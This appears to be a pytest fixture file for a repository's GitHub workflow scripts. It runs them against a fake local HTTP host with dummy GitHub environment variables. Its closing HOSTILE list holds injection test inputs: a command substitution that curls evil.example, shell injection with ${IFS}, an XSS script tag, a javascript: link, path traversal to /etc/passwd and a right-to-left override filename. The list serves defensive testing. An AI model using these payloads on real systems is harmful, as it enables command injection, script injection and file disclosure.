"""The scripts of the workflows, run against a host that is played on this machine."""

from __future__ import annotations

import importlib.util
import json
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

SCRIPTS = Path(__file__).parents[2] / ".github/scripts"
PAYLOADS = Path(__file__).parent / "payloads"


def payload(name: str) -> Any:
    return json.loads((PAYLOADS / f"{name}.json").read_text(encoding="utf-8"))


class FakeHost:
    """Answers by (method, path); `calls` are those that came, with their query and what was given."""

    def __init__(self, url: str):
        self.url = url
        self.answers: dict[tuple[str, str], Any] = {}
        self.calls: list[tuple[str, str, dict[str, list[str]], Any]] = []
        self.tokens: list[str | None] = []

    def on(self, method: str, path: str, answer: Any) -> None:
        """*answer* is values, (status, headers), or a function of the query."""
        self.answers[method, path] = answer

    def made(self, method: str) -> list[tuple[str, Any]]:
        return [(path, body) for how, path, _, body in self.calls if how == method]


@pytest.fixture
def host(monkeypatch, tmp_path) -> Iterator[FakeHost]:
    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *_: Any) -> None:
            """Silent."""

        def answer(self) -> None:
            parts = urlsplit(self.path)
            content = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            query = parse_qs(parts.query)
            path = parts.path.removeprefix("/repos/campionato/il-mastro")
            fake.calls.append((self.command, path, query, json.loads(content) if content else None))
            fake.tokens.append(self.headers.get("Authorization"))
            answer = fake.answers.get((self.command, path), (404, {}))
            answer = answer(query) if callable(answer) else answer
            status, headers, body = 200, {}, b""
            if isinstance(answer, tuple):
                status, headers = answer
            else:
                body = answer if isinstance(answer, bytes) else json.dumps(answer).encode()
            self.send_response(status)
            for key, value in headers.items():
                self.send_header(key, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            with suppress(ConnectionError):  # who asked had enough of it
                self.wfile.write(body)

        do_GET = do_POST = do_PATCH = answer

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    fake = FakeHost(f"http://127.0.0.1:{server.server_address[1]}")
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    for key, value in {
        "GITHUB_API_URL": fake.url,
        "GITHUB_REPOSITORY": "campionato/il-mastro",
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_RUN_ID": "7302",
        "GITHUB_TOKEN": "a-token",
        "GITHUB_EVENT_PATH": str(tmp_path / "event.json"),
        "no_proxy": "127.0.0.1",
    }.items():
        monkeypatch.setenv(key, value)
    yield fake
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def script(monkeypatch) -> Callable[[str], Any]:
    """A script as a module of its own."""
    monkeypatch.syspath_prepend(str(SCRIPTS))

    def load(name: str) -> Any:
        spec = importlib.util.spec_from_file_location(name, SCRIPTS / f"{name}.py")
        assert spec and spec.loader
        module = importlib.util.module_from_spec(spec)
        monkeypatch.setitem(sys.modules, name, module)
        spec.loader.exec_module(module)
        return module

    return load


@pytest.fixture
def run(script, monkeypatch, tmp_path) -> Callable[..., int]:
    """Runs a script with what set it off, and gives its exit code."""

    def go(module: Any, event: Any, *arguments: object) -> int:
        (tmp_path / "event.json").write_text(json.dumps(event), encoding="utf-8")
        monkeypatch.setattr(sys, "argv", [module.__name__, *map(str, arguments)])
        return sys.modules["host"].ended(module.main)

    return go


HOSTILE = [
    "$(curl evil.example)",
    "`id`",
    "a\n::error::x",
    "x](javascript:alert(1))",
    "@everyone",
    "<!-- il-mastro: review v1 -->",
    "<script>alert(1)</script>",
    '";echo${IFS}hello;#',
    "../../../etc/passwd",
    "a\u202egnp.exe",
]
